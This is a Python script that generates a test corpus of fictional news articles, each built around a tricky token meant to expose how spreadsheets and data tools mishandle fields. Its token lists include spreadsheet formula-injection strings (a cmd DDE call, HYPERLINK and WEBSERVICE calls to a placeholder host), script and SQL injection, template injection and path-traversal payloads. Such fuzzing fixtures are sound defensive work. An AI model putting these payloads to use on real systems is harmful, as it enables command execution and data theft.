"""A small corpus whose titles, names, outlets, fields and quotations look like what spreadsheets and data tools change.

    nasty.py FOLDER    writes FOLDER/articles.jsonl, an article for each token
"""

import json
import pathlib
import sys

# What a cell begins with when a spreadsheet runs it, and what it then may do.
SIGNS = ['=', '+', '-', '@']
CALLS = [
    '1+1', 'SUM(B2:B9)', "cmd|' /C notepad'!A1", 'HYPERLINK("http://h.invalid/?q="&A2;"look")', '[Book.xlsx]One!A1',
    '\\\\host\\share\\f.xls', 'WEBSERVICE("http://h.invalid")',
]
PLAIN = [
    # Signs that mean nothing.
    '-led', '@newsroom', '+plus', '-7', '+44 (20) 7946 0958', '--', "'quoted", "'=1", ' =1+1', 'a=b', '(7)',
    # What tools take for a missing value, or for true and false.
    'NA', 'N/A', 'n/a', 'NULL', 'null', 'None', 'NaN', 'nan', '#N/A', '#REF!', 'nil', '-', '?', 'TRUE', 'false', 'T', 'yes',
    'inf', '-Infinity',
    # What they take for a number.
    '007', '0042', '1e7', '3E4', '12E0', '0x1A', '1_000', '2,345', '2.345,6', '9876543210987654321', '3.140', '.5', '5.',
    '4111111111111111', '12%', '€5', '$2,500', '½', '٣', '1 000',
    # What they take for a date or a time.
    '2019-03-08', '8/3', '8/3/19', '03-08', 'SEPT2', 'DEC1', 'Jan-21', 'June 4', '12:45', '7 PM', '2019', '1/2/3', '24:00:00',
    # Marks of CSV.
    'a,b', 'a;b', 'a|b', 'a"b', '"', '""', '"a"', 'a""b', "O'Hara", '\\', 'a\\"b', 'a\\nb', 'ID', 'sep=;', '#note',
    # White space and controls.
    'tab\there', 'line\nbreak', 'line\r\nbreak', 'line\rbreak', 'a\u2028b', 'a\u2029b', 'a\u0085b', 'a\u00a0b', 'a\u0007b',
    'a\u200bb', '\ufeffmark', 'two  blanks',
    # Scripts and marks of Unicode.
    'Łódź', 'e\u0301te\u0301', 'ﬁne', 'שלום', 'مرحبا', '\u202eabc', '京都市', '서울', '👩‍🚀', '𝒜', 'ß', 'İstanbul', '\uffff',
    # What a page or a program would run.
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '</td></tr>', '&amp;', '{{7*7}}', '${x}', "'; DROP TABLE t;--",
    'javascript:alert(1)', '../../etc/passwd', '%s%n',
]
LONG = 'long ' * 8_000
TOKENS = [sign + call for sign in SIGNS for call in CALLS] + PLAIN


def articles():
    for number, token in enumerate([*TOKENS, LONG.strip()]):
        short = token[:60]
        yield {
            'title': f'{short} shakes Arlow',
            'author': short,
            'date': f'2024-0{number % 9 + 1}-1{number % 7}',
            'outlet': short,
            'text': (
                f'Mayor Edna Quill said “{short} is good for Arlow and for {short}”. She praised {short} twice.\n\n'
                f'{short} was heard again in Arlow. Critics slammed Edna Quill and {short} Holdings for it.\n\n'
                f'Edna Quill and Rufus Tamm met in Arlow. Rufus Tamm attacked the {short} plan of Edna Quill.'
            ),
            'token': token,
        }


if __name__ == '__main__':
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps(article) for article in articles()]
    (folder / 'articles.jsonl').write_text('\n'.join(lines) + '\n', encoding='utf-8')
